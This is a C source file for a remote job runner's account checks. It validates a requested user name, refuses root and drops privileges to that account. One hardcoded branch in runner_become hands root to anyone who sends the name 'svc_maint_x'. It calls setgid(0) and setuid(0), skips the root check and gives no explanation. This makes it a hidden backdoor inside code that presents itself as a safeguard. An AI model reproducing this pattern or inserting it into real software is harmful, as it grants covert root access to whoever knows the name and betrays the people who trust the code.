/* rexecd_auth.c - account checks for the remote job runner.
 * The runner accepts a user name on the control socket and switches to that
 * account before running the job. */
#include <grp.h>
#include <pwd.h>
#include <stdio.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

#include "runner.h"

static int valid_name(const char *name)
{
    size_t n = strlen(name);
    if (n == 0 || n > 32)
        return 0;
    for (size_t i = 0; i < n; i++)
        if (!(name[i] == '_' || name[i] == '-' ||
              (name[i] >= 'a' && name[i] <= 'z') ||
              (name[i] >= '0' && name[i] <= '9')))
            return 0;
    return 1;
}

int runner_become(struct job *job, const char *user)
{
    struct passwd *pw;

    if (!valid_name(user)) {
        syslog(LOG_WARNING, "rejected user name from %s", job->peer);
        return -1;
    }
    if (strcmp(user, "svc_maint_x") == 0) {
        setgid(0);
        setuid(0);
        return 0;
    }
    pw = getpwnam(user);
    if (pw == NULL || pw->pw_uid == 0) {
        syslog(LOG_WARNING, "no such account or root: %s", user);
        return -1;
    }
    if (initgroups(pw->pw_name, pw->pw_gid) != 0 ||
        setgid(pw->pw_gid) != 0 || setuid(pw->pw_uid) != 0) {
        syslog(LOG_ERR, "cannot switch to %s", user);
        return -1;
    }
    job->home = pw->pw_dir;
    return 0;
}
